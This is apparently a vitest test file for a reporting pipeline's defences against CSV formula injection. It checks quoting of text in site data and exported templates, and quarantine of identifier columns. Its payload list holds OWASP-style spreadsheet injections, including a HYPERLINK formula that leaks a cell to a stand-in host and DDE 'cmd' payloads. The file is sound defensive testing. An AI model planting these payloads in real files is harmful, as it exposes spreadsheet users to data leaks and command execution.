// CSV injection (OWASP): text a spreadsheet runs as a formula must not reach leadership's Excel or WPS.
// - identifiers (ids, keys, codes) starting with =, +, -, @, tab or CR are rejected by the contract at load;
// - free text starting so is neutralised (a leading single quote) in the data files the report site ships, which
//   its Download buttons write out as CSV, and in every CSV the product writes itself (the templates).
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { DuckDBInstance } from "@duckdb/node-api";
import { describe, expect, it } from "vitest";
import { FORMULA_TRIGGERS, isIdentifierColumn, type TableSpec } from "../../pipelines/shared/contracts/column-spec.js";
import { SOURCE_TABLES } from "../../pipelines/shared/contracts/source-tables.js";
import { products } from "../../pipelines/shared/contracts/order-system.js";
import { configSchema } from "../../pipelines/shared/config.js";
import { extract, runContext } from "../../pipelines/orchestrate/refresh.js";
import { spreadsheetSafeText, templateHead } from "../../pipelines/extract/template-files.js";
import { spreadsheetSafeCsvLine } from "../../pipelines/demo-company/export-templates.js";
import { isEvidenceOfflinePatchInstalled } from "../../pipelines/site/evidence-offline/apply.mjs";
import * as siteData from "../../pipelines/shared/spreadsheet-safe.js";
import { queryRows, withDatabase } from "../../pipelines/shared/warehouse/duckdb.js";
import { tempDir } from "../helpers/temp-dir.js";
import { REPO_ROOT } from "../support/paths.js";

/** OWASP's examples and their variants: each must come out starting with a single quote. */
const PAYLOADS = [
  '=HYPERLINK("http://x?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "-2+3+cmd|' /C calc'!A0",
  "=1+1",
  "\t=1+1",
  "\r=1+1",
  "-",
  "+86 139 1234 5678",
  "'=1+1", // already quoted: quoted once more, so the loader's un-quoting gives it back exactly
];
/** Values that are no formula: they must come out unchanged. */
const HARMLESS = [
  "Sino-Pacific Trading",
  "上海-华东 渠道",
  "张伟",
  "华为 Mate 60",
  "a=b",
  "email@example.cn",
  "-12.5",
  "-3",
  "+1.5e3",
  "3-2",
  "'quoted",
  " =spaced",
  "",
];

describe("the neutralising function (the site's data files and the templates use the same rule)", () => {
  it("prefixes OWASP's payloads with a single quote", () => {
    for (const payload of PAYLOADS) {
      expect(siteData.spreadsheetSafe(payload), JSON.stringify(payload)).toBe(`'${payload}`);
      expect(spreadsheetSafeText(payload), JSON.stringify(payload)).toBe(`'${payload}`);
    }
  });

  it("leaves harmless text, numbers, dates and missing values alone", () => {
    for (const value of HARMLESS) {
      expect(siteData.spreadsheetSafe(value), JSON.stringify(value)).toBe(value);
      expect(spreadsheetSafeText(value), JSON.stringify(value)).toBe(value);
    }
    const date = new Date("2026-01-31T00:00:00Z");
    for (const value of [-5, -0.25, 0, null, undefined, true, date])
      expect(siteData.spreadsheetSafe(value)).toBe(value);
  });

  it("knows the same formula characters as the contract", () => {
    expect([...siteData.FORMULA_TRIGGERS]).toEqual([...FORMULA_TRIGGERS]);
    expect([...FORMULA_TRIGGERS]).toEqual(["=", "+", "-", "@", "\t", "\r"]);
  });
});

describe("the site's data files, built by the patched build-parquet exactly as `evidence sources` does", () => {
  const dir = tempDir();

  it("neutralise every text column; numbers, dates and booleans keep their types and values", async () => {
    // The copy Evidence runs must be this repository's (apply.mjs installs it; `npm install` runs apply.mjs).
    expect(isEvidenceOfflinePatchInstalled()).toBe(true);
    const warehouse = join(dir, "warehouse.duckdb");
    const db = await DuckDBInstance.create(warehouse);
    const c = await db.connect();
    await c.run(`
      create schema marts;
      create table marts.partner_sales (
        sale_id varchar, product_name varchar, margin decimal(18, 2), quantity bigint, share double,
        month date, sold_at timestamp, is_flagged boolean);`);
    const names = [...PAYLOADS, ...HARMLESS];
    for (const [i, name] of names.entries()) {
      await c.run("insert into marts.partner_sales values ($1, $2, $3, $4, $5, $6, $7, $8)", [
        `S${i}`,
        name,
        (-1234.5 + i).toFixed(2),
        -i,
        -0.125 * i,
        "2026-01-01",
        "2026-01-01 08:30:00",
        i % 2 === 0,
      ]);
    }
    await c.run("insert into marts.partner_sales values ('S-null', null, null, null, null, null, null, null)");
    c.closeSync();
    db.closeSync();

    // The site's Evidence source (@evidence-dev/duckdb) runs the source query; universal-sql writes its parquet.
    const require = createRequire(import.meta.url);
    const connector = (await import(pathToFileURL(require.resolve("@evidence-dev/duckdb")).href)) as {
      default: (sql: string, options: { filename: string }) => Promise<{ rows: unknown; columnTypes: unknown[] }>;
    };
    const universalSql = (await import(pathToFileURL(require.resolve("@evidence-dev/universal-sql")).href)) as {
      buildMultipartParquet: (
        columns: unknown[],
        rows: unknown,
        tmpDir: string,
        outDir: string,
        filename: string,
      ) => Promise<number>;
    };
    const result = await connector.default("select * from marts.partner_sales order by sale_id", {
      filename: warehouse,
    });
    const out = join(dir, "static", "data");
    mkdirSync(out, { recursive: true });
    const written = await universalSql.buildMultipartParquet(
      result.columnTypes,
      result.rows,
      join(dir, "tmp"),
      out,
      "partner_sales.parquet",
    );
    expect(written).toBe(names.length + 1);

    const reader = await DuckDBInstance.create(":memory:");
    const r = await reader.connect();
    const file = join(out, "partner_sales.parquet").replaceAll("'", "''");
    const types = (await r.runAndReadAll(`describe select * from read_parquet('${file}')`)).getRowObjectsJS();
    expect(Object.fromEntries(types.map((t) => [t["column_name"], t["column_type"]]))).toMatchObject({
      sale_id: "VARCHAR",
      product_name: "VARCHAR",
      margin: "DOUBLE",
      quantity: "DOUBLE",
      share: "DOUBLE",
      month: expect.stringMatching(/^TIMESTAMP/),
      sold_at: expect.stringMatching(/^TIMESTAMP/),
      is_flagged: "BOOLEAN",
    });
    const rows = (
      await r.runAndReadAll(
        `select sale_id, product_name, margin, quantity, share, strftime(month, '%Y-%m-%d') as month, is_flagged
         from read_parquet('${file}')`,
      )
    ).getRowObjectsJS();
    r.closeSync();
    reader.closeSync();
    const byId = new Map(rows.map((row) => [row["sale_id"], row]));
    for (const [i, name] of names.entries()) {
      const row = byId.get(`S${i}`)!;
      expect(row["product_name"], JSON.stringify(name)).toBe(i < PAYLOADS.length ? `'${name}` : name);
      expect(row["margin"]).toBeCloseTo(-1234.5 + i, 6);
      expect(row["quantity"]).toBe(-i === 0 ? 0 : -i);
      expect(row["share"]).toBeCloseTo(-0.125 * i, 9);
      expect(row["month"]).toBe("2026-01-01");
      expect(row["is_flagged"]).toBe(i % 2 === 0);
    }
    expect(byId.get("S-null")).toMatchObject({ product_name: null, margin: null, month: null });
  });
});

describe("identifiers are rejected at load when a spreadsheet would run them", () => {
  it("every id, key and code column of every contract is an identifier; free text and closed lists are not", () => {
    const identifiers = SOURCE_TABLES.flatMap(({ table }) =>
      table.columns.filter((c) => isIdentifierColumn(table, c)).map((c) => `${table.name}.${c.name}`),
    );
    expect(identifiers).toEqual(
      expect.arrayContaining([
        "products.product_id",
        "products.sku",
        "orders.order_id",
        "orders.partner_id",
        "orders.customer_id",
        "targets.scope_id",
        "customers.referred_by_customer_id",
        "sell_through.partner_id",
        "sell_through.sale_id",
        "sell_through.sku",
        "sell_through.ship_to_region_id",
        "sell_through.customer_id",
      ]),
    );
    for (const freeText of ["products.product_name", "customers.name", "customers.phone", "orders.status"]) {
      expect(identifiers).not.toContain(freeText);
    }
    for (const { table } of SOURCE_TABLES) {
      for (const column of table.columns) {
        const named = /(_id|_key|_code)$|^sku$/.test(column.name) && column.type === "text" && !column.values;
        if (named) expect(isIdentifierColumn(table, column), `${table.name}.${column.name}`).toBe(true);
      }
    }
  });

  it("from files (templates and partner drops): the row is quarantined with the reason; free text loads as written", async () => {
    const dir = tempDir();
    const templates = join(dir, "templates");
    const drops = join(dir, "drops");
    mkdirSync(templates, { recursive: true });
    mkdirSync(drops, { recursive: true });
    const product = (id: string, sku: string, name: string) =>
      `${id},${sku},${name},,tea,12.50,2025-01-01,2025-01-01T00:00:00Z`;
    const csvQuote = (value: string) => `"${value.replaceAll('"', '""')}"`;
    writeFileSync(
      join(templates, "products.csv"),
      templateHead(products) +
        [
          product("P1", "SKU-1", csvQuote(PAYLOADS[0]!)), // free text: loads as written
          product("P2", "SKU-2", "Sino-Pacific Oolong"),
          product(csvQuote(PAYLOADS[0]!), "SKU-3", "x"),
          product("P4", csvQuote(PAYLOADS[1]!), "x"),
          product("@SUM(A1)", "SKU-5", "x"),
          product(csvQuote(PAYLOADS[3]!), "SKU-6", "x"),
          product("P7", "SKU-7", csvQuote(spreadsheetSafeText("=1+1"))), // as the templates exporter writes it
          product("-17", "SKU-8", "x"),
          product(csvQuote("\t=1+1"), "SKU-9", "x"),
          product("'=1+1", "SKU-10", "x"), // un-quoted on load, then judged: still a formula
        ].join("\n") +
        "\n",
    );
    writeFileSync(
      join(drops, "p1.csv"),
      "partner_id,sale_id,sale_date,sku,quantity,unit_price,amount,ship_to_region_id,customer_id\n" +
        "P1,S1,2026-01-05,SKU-1,2,10.00,20.00,CN-SH,\n" +
        `P1,${csvQuote(PAYLOADS[0]!)},2026-01-05,SKU-1,2,10.00,20.00,CN-SH,\n` +
        "P1,S3,2026-01-05,SKU-1,2,10.00,20.00,CN-SH,@C1\n",
    );
    const config = configSchema.parse({
      data_dir: join(dir, "data"),
      sources: { templates: { dir: templates }, partner_files: { drop_dir: drops } },
    });
    const ctx = runContext(REPO_ROOT, config, () => undefined, "run-f1");
    const outcome = await extract(ctx);
    expect(outcome.failedStreams).toEqual([]);
    await withDatabase(ctx.paths.rawDatabase, async (c) => {
      const loaded = await queryRows<{ product_id: string; sku: string; product_name: string }>(
        c,
        "select product_id, sku, product_name from order_system.products order by product_id",
      );
      expect(loaded).toEqual([
        { product_id: "P1", sku: "SKU-1", product_name: PAYLOADS[0] },
        { product_id: "P2", sku: "SKU-2", product_name: "Sino-Pacific Oolong" },
        { product_id: "P7", sku: "SKU-7", product_name: "=1+1" },
      ]);
      const rejected = await queryRows<{ stream: string; location: string; reason: string }>(
        c,
        "select stream, location, reason from meta.quarantine order by stream, location",
      );
      const reason = (column: string) =>
        `${column}: starts with =, +, -, @, a tab or a carriage return, which spreadsheets run as a formula; no identifier needs them: correct it at the source`;
      expect(rejected).toEqual([
        { stream: "products", location: "products.csv line 10", reason: reason("product_id") },
        { stream: "products", location: "products.csv line 11", reason: reason("product_id") },
        { stream: "products", location: "products.csv line 12", reason: reason("product_id") },
        { stream: "products", location: "products.csv line 5", reason: reason("product_id") },
        { stream: "products", location: "products.csv line 6", reason: reason("sku") },
        { stream: "products", location: "products.csv line 7", reason: reason("product_id") },
        { stream: "products", location: "products.csv line 8", reason: reason("product_id") },
        { stream: "sell_through", location: "p1.csv line 3", reason: reason("sale_id") },
        { stream: "sell_through", location: "p1.csv line 4", reason: reason("customer_id") },
      ]);
    });
  });
});

describe("CSV the product writes", () => {
  const table: TableSpec = products;

  it("the templates exporter quotes free text that starts like a formula, and leaves everything else byte for byte", () => {
    const plain = "P1,SKU-1,Sino-Pacific Oolong,,tea,12.50,2025-01-01,2025-01-01T00:00:00Z";
    expect(spreadsheetSafeCsvLine(table, plain)).toBe(plain);
    const negative = "P1,SKU-1,Oolong,,-tea-,-12.50,2025-01-01,2025-01-01T00:00:00Z";
    expect(spreadsheetSafeCsvLine(table, negative)).toBe(
      "P1,SKU-1,Oolong,,'-tea-,-12.50,2025-01-01,2025-01-01T00:00:00Z",
    );
    const hostile = `P1,SKU-1,"=HYPERLINK(""http://x?leak=""&A1,""Click"")",,@cat,12.50,2025-01-01,2025-01-01T00:00:00Z`;
    expect(spreadsheetSafeCsvLine(table, hostile)).toBe(
      `P1,SKU-1,"'=HYPERLINK(""http://x?leak=""&A1,""Click"")",,'@cat,12.50,2025-01-01,2025-01-01T00:00:00Z`,
    );
  });

  it("a quoted value reads back as it was: exporter out, loader in", async () => {
    const dir = tempDir();
    const templates = join(dir, "templates");
    mkdirSync(templates, { recursive: true });
    // Tabs and carriage returns aside (a CSV line is no place for them), and values the loader trims.
    const names = [
      ...PAYLOADS.filter((p) => !/^[\t\r]/.test(p)),
      ...HARMLESS.filter((h) => h !== "" && h === h.trim()),
    ];
    const csvField = (value: string) => (/[",\n\r]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
    const lines = names.map((name, i) =>
      spreadsheetSafeCsvLine(
        table,
        [`P${i}`, `SKU-${i}`, csvField(name), "", "tea", "12.50", "2025-01-01", "2025-01-01T00:00:00Z"].join(","),
      ),
    );
    writeFileSync(join(templates, "products.csv"), `${templateHead(table)}${lines.join("\n")}\n`);
    const written = readFileSync(join(templates, "products.csv"), "utf8");
    expect(written).toContain(`"'=HYPERLINK(""http://x?leak=""&A1,""Click"")"`);
    const config = configSchema.parse({ data_dir: join(dir, "data"), sources: { templates: { dir: templates } } });
    const ctx = runContext(REPO_ROOT, config, () => undefined, "run-r1");
    await extract(ctx);
    await withDatabase(ctx.paths.rawDatabase, async (c) => {
      const loaded = await queryRows<{ product_name: string }>(
        c,
        "select product_name from order_system.products order by cast(substr(product_id, 2) as int)",
      );
      expect(loaded.map((r) => r.product_name)).toEqual(names);
    });
  });

  it("the empty templates' example rows need no quoting (nothing in them starts like a formula)", () => {
    for (const { table: t } of SOURCE_TABLES) {
      const example = templateHead(t)
        .split("\n")[1]!
        .replace(/^# example: /, "");
      for (const value of example.split(",")) expect(value, `${t.name}: ${value}`).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
